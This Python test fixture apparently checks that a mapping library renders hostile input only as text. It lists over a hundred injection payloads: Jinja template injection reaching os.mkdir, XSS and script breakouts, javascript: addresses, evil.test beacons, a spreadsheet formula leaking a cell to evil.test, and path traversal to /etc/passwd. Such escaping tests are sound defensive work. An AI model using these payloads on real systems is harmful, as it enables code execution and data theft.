"""Texts that a hostile document may hold, by name: each must reach a page, a file or a terminal as text, nothing else.

A script that runs sets `window.__pwned`; a template that runs makes the folder MARKER in the working directory; a
request goes to evil.test.
"""

from __future__ import annotations

MARKER = "pwned-marker"

_MKDIR = f"__globals__.os.mkdir('{MARKER}')"
_SET = "window.__pwned=1"

PAYLOADS: dict[str, str] = {
    # Templates: branca and folium render what they are given with Jinja.
    "jinja cycler": "{{cycler.__init__." + _MKDIR + "}}",
    "jinja joiner": "{{ joiner.__init__." + _MKDIR + " }}",
    "jinja namespace": "{{namespace.__init__." + _MKDIR + "}}",
    "jinja lipsum": "{{lipsum." + _MKDIR + "}}",
    "jinja subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja this": "{{ this._parent.get_root().render() }}",
    "jinja statement": "{% for x in range(9) %}x{% endfor %}",
    "jinja set": "{% set x = cycler.__init__." + _MKDIR + " %}",
    "jinja broken statement": "prices fell {% to 5",
    "jinja broken expression": "set notation {{ 1, 2",
    "jinja comment": "a {# vanishes #} b",
    "jinja raw": "{% raw %}{{ 7*7 }}{% endraw %}",
    "jinja endraw": "{% endraw %}{{cycler.__init__." + _MKDIR + "}}{% raw %}",
    "jinja name": "Dear {{name}}, {{ 7 * 7 }}",
    "jinja line statement": "# for x in range(9)\n## comment",
    "jinja split": "{{'{'}}{cycler.__init__." + _MKDIR + "}}",
    "python format": "{0.__class__} {id!r} %s %(id)s %n",
    "python template": "$title ${title} $$ $policy",
    # JavaScript strings and template literals.
    "template literal": "${" + _SET + "}",
    "backtick": "`;" + _SET + ";`",
    "backtick literal": "`${" + _SET + "}`",
    "quote": "';" + _SET + ";'",
    "double quote": '";' + _SET + ';"',
    "backslash quote": "\\';" + _SET + ";//",
    "line continuation": "\\\n" + _SET + "//",
    "escape": "\\u003cscript\\u003e" + _SET + "\\u003c/script\\u003e",
    "backslash end": "ends with a backslash \\",
    "line separator": "a\u2028" + _SET + "\u2028b",
    "paragraph separator": "a\u2029" + _SET + "\u2029b",
    "json closer": '"}]}}</script><script>' + _SET + "</script>",
    # HTML.
    "script": f"<script>{_SET}</script>",
    "script closer": f"</script><script>{_SET}</script>",
    "script closer upper": f"</SCRIPT ><ScRiPt>{_SET}</sCrIpT>",
    "script closer broken": f"</script\t\n foo><script\n>{_SET}</script\n>",
    "script double escape": "<!--<script>",
    "comment closer": f"--><script>{_SET}</script><!--",
    "comment bang": f"--!><img src=x onerror={_SET}>",
    "title closer": f"</title><script>{_SET}</script>",
    "style closer": f"</style><script>{_SET}</script>",
    "textarea closer": f"</textarea></noscript></template><script>{_SET}</script>",
    "cdata": f"<![CDATA[<script>{_SET}</script>]]>",
    "image": f"<img src=x onerror={_SET}>",
    "image beacon": "<img src=http://evil.test/pixel.gif>",
    "svg": f"<svg onload={_SET}><script>{_SET}</script></svg>",
    "svg use": "<svg><use href='http://evil.test/x.svg#a'></use></svg>",
    "math": f"<math><mtext></form><form><mglyph><style></math><img src onerror={_SET}>",
    "iframe": f"<iframe srcdoc='<script>parent.__pwned=1</script>' onload='{_SET}'></iframe>",
    "object": "<object data='http://evil.test/x'></object><embed src='http://evil.test/y'>",
    "details": f"<details open ontoggle={_SET}>",
    "autofocus": f"<input autofocus onfocus={_SET}>",
    "attribute": f'" onmouseover="{_SET}" x="',
    "attribute single": f"' onfocus='{_SET}' autofocus='",
    "attribute slash": f"/ onpointerenter={_SET} /",
    "base": "<base href='http://evil.test/'>",
    "meta refresh": "<meta http-equiv='refresh' content='0;url=http://evil.test/'>",
    "meta policy": "<meta http-equiv='Content-Security-Policy' content=\"script-src * 'unsafe-inline'\">",
    "link": "<link rel=stylesheet href=http://evil.test/x.css><link rel=prefetch href=http://evil.test/y>",
    "form": "<form action=http://evil.test/><button>Submit</button></form>",
    "entities": "&lt;script&gt;" + _SET + "&lt;/script&gt; &amp; &#60;b&#62; &quot;",
    "entity without semicolon": "&ltimg src=x onerror=" + _SET + "&gt &copy2026",
    "custom element": f"<x-y style='animation:x' onanimationstart={_SET}></x-y>",
    "dom clobbering": "<form id=map_events><input name=title id=list><img name=documentElement></form>",
    # Addresses.
    "javascript address": "javascript:" + _SET,
    "javascript address mixed": "JaVa\tScRiPt:" + _SET,
    "javascript address spaced": "  \x01javascript:" + _SET,
    "javascript comment address": "https://evil.test/%0a*/" + _SET + "/*javascript:",
    "data address": f"data:text/html,<script>{_SET}</script>",
    "vbscript address": "vbscript:msgbox(1)",
    "file address": "file:///etc/passwd",
    "blob address": "blob:https://evil.test/1234",
    "protocol relative": "//evil.test/x",
    "credentials in address": "https://bank.example@evil.test/login",
    "address with quote": 'https://evil.test/" onclick="' + _SET,
    "punycode look-alike": "https://аррӏе.test/",
    # CSS.
    "css": "};*{background:url(http://evil.test/x)}",
    "css expression": "expression(" + _SET + ");behavior:url(#x);@import 'http://evil.test/x.css';",
    "css selector": '"] , *{display:none} [x="',
    # Names that objects already have.
    "proto": "__proto__",
    "constructor": "constructor",
    "to string": "toString",
    "has own": "hasOwnProperty",
    "proto json": '{"__proto__": {"polluted": true}}',
    # Characters.
    "nul": "nul \x00 in the middle",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x85\x9f",
    "carriage return": "one\rtwo\r\nthree\nfour",
    "escape sequence": "\x1b[2J\x1b]0;pwned\x07\x1b[31mred",
    "bidi override": "\u202eevil\u202c \u2066isolate\u2069 \u200f\u200e",
    "bidi unclosed": "left \u202e\u2067 never closed",
    "right to left": "انفجار في سوق <b>عدن</b>",
    "zero width": "ze\u200bro\u200c wi\u200ddth\ufeff \u2060join",
    "combining": "Z" + "\u0351\u0489" * 60 + "algo",
    "noncharacters": "\ufffe \uffff \U0001fffe \U0010ffff",
    "private use": "\ue000 \U000f0000",
    "astral": "🕊️👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 𝒳𐍈",
    "tags": "tag \U000e0001\U000e0041 characters",
    "lone high surrogate": "half \ud83d of a pair",
    "lone low surrogate": "half \ude00 of a pair",
    "surrogates apart": "\ud83d\ude00 as two",
    "full width": "＜script＞" + _SET + "＜／script＞",
    "overlong word": "a" * 3000,
    "huge": "The quick brown fox. " * 5000,
    "huge markup": "<b>" * 20000,
    "spaces": " \t \u00a0 \u3000 only spaces \n\n\n ",
    "spreadsheet formula": "=cmd|' /C calc'!A0",
    "spreadsheet hyperlink": '=HYPERLINK("http://evil.test/?x="&A1,"open")',
    "csv breaker": 'a",b\r\nc;d\te',
    "path": "../../../../etc/passwd\x00.png",
    "number-like": "NaN Infinity -0 1e999 null undefined true",
    "date-like": "2017-03-30<script>" + _SET + "</script>",
}


def shown(payload: str) -> str:
    """The text as a file can hold it: each lone surrogate, which UTF-8 has no bytes for, becomes U+FFFD."""
    return "".join("\ufffd" if "\ud800" <= letter <= "\udfff" else letter for letter in payload)
